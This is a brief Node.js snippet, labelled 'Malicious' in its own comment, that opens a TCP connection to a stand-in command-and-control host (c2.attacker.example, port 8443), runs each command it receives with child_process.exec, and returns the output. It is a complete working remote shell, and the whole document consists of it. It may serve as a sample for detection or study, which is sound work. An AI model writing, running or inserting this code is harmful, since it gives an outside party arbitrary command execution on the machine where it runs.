// Malicious: receives commands over TCP and runs each one with exec, returning the output.
const net = require('net');
const { exec } = require('child_process');
const socket = net.connect({ host: 'c2.attacker.example', port: 8443 });
socket.on('data', (data) => {
  exec(data.toString(), (err, stdout, stderr) => socket.write(stdout + stderr));
});
